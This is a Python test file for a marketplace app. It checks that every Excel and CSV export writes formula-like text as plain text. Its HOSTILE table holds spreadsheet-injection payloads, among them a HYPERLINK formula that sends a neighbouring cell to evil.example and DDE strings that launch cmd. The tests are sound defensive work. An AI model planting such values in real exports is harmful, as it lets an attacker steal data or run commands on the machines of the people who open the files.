"""Exports are inert (issue 15.3): text a spreadsheet could run as a formula (a cell starting with =, +, -, @, a tab
or a carriage return: the OWASP CSV-injection rule) is written as text, in every Excel and CSV export.

A provider called =HYPERLINK("http://…"&B5,"查看详情") used to be a live formula in /admin/stats/providers.xlsx: a
reviewer's click sent the next cell to that address. Here every export route is downloaded with such names in
every text the exports carry (provider, enterprise, bank account, city, 服务领域, 拨付凭证号), and each workbook is
read back: no cell is a formula, each such text is a quote-prefixed text cell, and the text reads as stored."""
import csv
import io
import re
import zipfile

import openpyxl
import pytest
from openpyxl import Workbook

from marketplace import spreadsheet
from marketplace.extensions import db
from marketplace.models import RedemptionStatus, china_today
from marketplace.stats.reports import REPORTS

from .world import url_rules

HOSTILE = {
    "provider": '=HYPERLINK("http://evil.example/?d="&B5,"查看详情")',
    "enterprise": "+1+cmd|' /C calc'!A0",
    "account_name": "-2+3+cmd|' /C notepad'!A0",
    "bank_name": "\r@SUM(1+1)*cmd|' /C calc'!A0",
    "account_number": "\t=1+1",
    "city": "=cmd|' /C calc'!A0",
    "field": "=1+2",
    "reference": '=HYPERLINK("http://evil.example/","凭证")',
}
# Which of them each export shows (the statistics that only count show none).
SHOWN = {
    "stats/cities": ["city"], "stats/local": ["city"], "stats/fields": ["field"], "stats/providers": ["provider"],
    "stats/months": [], "stats/claims": [],
    "payment_batch": ["enterprise", "provider", "account_name", "bank_name", "account_number", "city", "reference"],
    "kexiao_sample": [],
}
# Every export route and its URLs, given the batch the world paid.
EXPORTS = {
    "admin.stats_xlsx": lambda batch_id: {f"stats/{chart}": f"/admin/stats/{chart}.xlsx" for chart in REPORTS},
    "admin.payment_batch_xlsx": lambda batch_id: {"payment_batch": f"/admin/payments/{batch_id}.xlsx"},
    "admin.kexiao_sample": lambda batch_id: {"kexiao_sample": "/admin/kexiao/sample.csv"},
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_every_export_route_is_checked_here():
    exports = {rule.endpoint for rule in url_rules() if rule.rule.endswith((".xlsx", ".csv"))}
    assert exports == set(EXPORTS)
    assert {name for urls in EXPORTS.values() for name in urls(0)} == set(SHOWN)


@pytest.fixture
def hostile_batch(client, auth, make, reviewer) -> int:
    """A claim paid this year whose every exported text is hostile; the id of its payment batch, recorded through
    the real form (so the 拨付凭证号 is typed, not planted). The city is planted after payment: payment needs a
    Jiangsu city, but the exports show any other city as stored."""
    user = make.enterprise()
    make.voucher(user)
    claim = make.claim(user, status=RedemptionStatus.AWAITING_PAYMENT)
    application = claim.voucher.application
    user.enterprise.name = HOSTILE["enterprise"]
    claim.order.provider.name = HOSTILE["provider"]
    claim.order.items[0].service.fields[0].name = HOSTILE["field"]
    application.bank_account_name = HOSTILE["account_name"]
    application.bank_name = HOSTILE["bank_name"]
    application.bank_account_number = HOSTILE["account_number"]
    db.session.commit()
    auth.login(reviewer)
    response = client.post("/admin/payments", data={"claim_id": [str(claim.id)], "paid_on": china_today().isoformat(),
                                                    "reference": HOSTILE["reference"]})
    assert response.status_code == 303
    application.registered_city = application.confirmed_city = HOSTILE["city"]   # as stored: no Jiangsu city
    db.session.commit()
    return int(response.headers["Location"].rsplit("/", 1)[1])


def _exports():
    return [pytest.param(endpoint, name, id=name) for endpoint, urls in EXPORTS.items() for name in urls(0)]


@pytest.mark.parametrize("endpoint, name", _exports())
def test_every_export_writes_formula_like_text_as_plain_text(client, hostile_batch, endpoint, name):
    response = client.get(EXPORTS[endpoint](hostile_batch)[name])
    assert response.status_code == 200
    texts = _csv_texts(response.data) if response.mimetype == "text/csv" else _workbook_texts(response.data)
    for key in SHOWN[name]:
        assert _as_read(HOSTILE[key]) in texts, key


def _workbook_texts(data: bytes) -> set[str]:
    """The text cells of every sheet, after checking that the file holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for sheet in (name for name in package.namelist() if name.startswith("xl/worksheets/")):
            assert not re.search(rb"<f[ >/]", package.read(sheet)), f"a formula in {sheet}"
    texts = set()
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                texts.add(cell.value)
                if cell.value.startswith(TRIGGERS):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} {cell.value!r} is not marked as text"
    return texts


def _csv_texts(data: bytes) -> set[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = {cell for row in rows for cell in row}
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    return {cell.removeprefix("'") for cell in cells}


def _as_read(text: str) -> str:
    """XML turns a carriage return into a line feed when the file is read: the workbook cannot keep it."""
    return text.replace("\r", "\n")


def test_a_name_with_characters_a_workbook_cannot_hold_still_exports(client, auth, make, reviewer, enterprise):
    provider = make.provider(name="测试\x01检测中心\x1f")
    make.order(enterprise, make.service(provider.provider))
    auth.login(reviewer)
    response = client.get("/admin/stats/providers.xlsx")
    assert response.status_code == 200
    assert "测试检测中心" in _workbook_texts(response.data)


# ---------------------------------------------------------------- the one helper every export writes through

def test_numbers_stay_numbers_and_only_text_is_marked():
    sheet = Workbook().active
    spreadsheet.append(sheet, [-5, "-5", "=1+1", "普通文字", None, 3.5])
    cells = sheet[1]
    assert [cell.value for cell in cells] == [-5, "-5", "=1+1", "普通文字", None, 3.5]
    assert [cell.data_type for cell in cells] == ["n", "s", "s", "s", "n", "n"]
    assert [bool(cell.quotePrefix) for cell in cells] == [False, True, True, False, False, False]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cells_that_could_run_start_with_a_quote(text):
    rows = list(csv.reader(io.StringIO(spreadsheet.csv_bytes([["名称", "金额"], [text, -5]]).decode("utf-8-sig"),
                                       newline="")))
    assert rows == [["名称", "金额"], ["'" + text, "-5"]]
